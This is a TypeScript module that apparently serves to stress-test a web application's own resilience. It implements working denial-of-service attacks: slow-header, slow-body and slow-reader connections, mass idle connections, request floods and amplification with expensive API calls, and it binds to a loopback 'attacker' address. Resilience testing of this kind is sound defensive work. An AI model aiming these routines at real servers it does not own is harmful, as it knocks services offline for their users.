import { connect, type Socket } from 'node:net';
import { hostileCalls } from '../fuzz/hostile-calls.ts';

/** The single address of all attackers; on Linux loopback is the whole of 127.0.0.0/8. */
const ATTACKER = '127.0.0.66';
const TRICKLE_MS = 1000;
const FLOODERS = 32;
/** Connections that send expensive calls: one of them once blocked all visitors, four crashed the API. */
const AMPLIFIERS = 4;

export interface Target {
  /** Address that sockets connect to. */
  address: string;
  port: number;
  /** Host header of a branch. */
  host: string;
  /** Path of a large response. */
  large: string;
}

type Attack = (target: Target) => void;

/** Each runs until its process ends; closed connections are reopened. */
export const attacks: Record<string, Attack> = {
  'slow headers': (target) => stall(target, 200, () => 'GET /map HTTP/1.1\r\nX-Slow: ', 'x'),
  'slow bodies': (target) =>
    stall(
      target,
      140,
      (one) =>
        `${head(target, 'POST', one % 2 ? '/api/metrics/' : '/api/items/change-requests/', 'Content-Type: application/json', 'Content-Length: 5000')}{`,
      ' ',
    ),
  'slow readers': (target) => {
    stall(target, 140, () => head(target, 'GET', target.large).repeat(60));
    stall(target, 1, () => head(target, 'GET', target.large).repeat(400));
  },
  'thousand connections': (target) => stall(target, 1000, () => ''),
  floods: (target) => {
    for (let one = 0; one < FLOODERS; one++) flood(target, one);
  },
  'large inputs': (target) => {
    for (let one = 0; one < AMPLIFIERS; one++) amplify(target, one);
  },
};

const head = ({ host }: Target, method: string, path: string, ...headers: string[]) =>
  [`${method} ${path} HTTP/1.1`, `Host: ${host}`, ...headers, '', ''].join('\r\n');

function open({ address, port }: Target): Socket {
  return connect({ host: address, port, localAddress: address === '127.0.0.1' ? ATTACKER : undefined }).on(
    'error',
    () => {},
  );
}

/** Connections that send an incomplete request, then a few bytes now and then, and read nothing. */
function stall(target: Target, connections: number, first: (one: number) => string, trickle?: string): void {
  for (let one = 0; one < connections; one++) {
    const start = () => {
      const socket = open(target);
      const text = first(one);
      if (text) socket.write(text);
      socket.pause();
      const timer = trickle === undefined ? undefined : setInterval(() => socket.write(trickle), TRICKLE_MS);
      socket.once('close', () => {
        clearInterval(timer);
        setTimeout(start, TRICKLE_MS);
      });
    };
    setTimeout(start, (one / connections) * TRICKLE_MS);
  }
}

/** Sends small expensive calls, each after the response of the previous one. */
function amplify(target: Target, seed: number): void {
  const calls = hostileCalls('')
    .filter(({ headers }) => !headers.authorization)
    .map(({ method, path, headers, body = '' }) => {
      const lines = Object.entries(headers).map(([name, value]) => `${name}: ${value}`);
      return `${head(target, method, `/api${path}`, ...lines, `Content-Length: ${Buffer.byteLength(body)}`)}${body}`;
    });
  let count = seed;
  const start = () => {
    const socket = open(target);
    const send = () => socket.write(calls[count++ % calls.length]!);
    socket.on('data', send).once('connect', send);
    socket.once('close', () => setTimeout(start, 100));
  };
  start();
}

/** Sends requests as fast as they are processed: pages of nonexistent names, searches, documents. */
function flood(target: Target, seed: number): void {
  let count = seed * 1_000_000;
  const paths = [
    () => `/map/place/abcdefgh/name-${count}`,
    () => `/api/items/search/?text=gast&branch=1`,
    () => `/map?n=${count}`,
    () => '/api/branches/',
    () => `/nowhere/${count}`,
  ];
  const start = () => {
    const socket = open(target);
    const sendRequest = () => socket.write(head(target, 'GET', paths[count++ % paths.length]!()));
    // A response may arrive in several parts: one request per part keeps the connection saturated.
    socket.on('data', sendRequest).once('connect', sendRequest);
    socket.once('close', () => setTimeout(start, 100));
  };
  start();
}
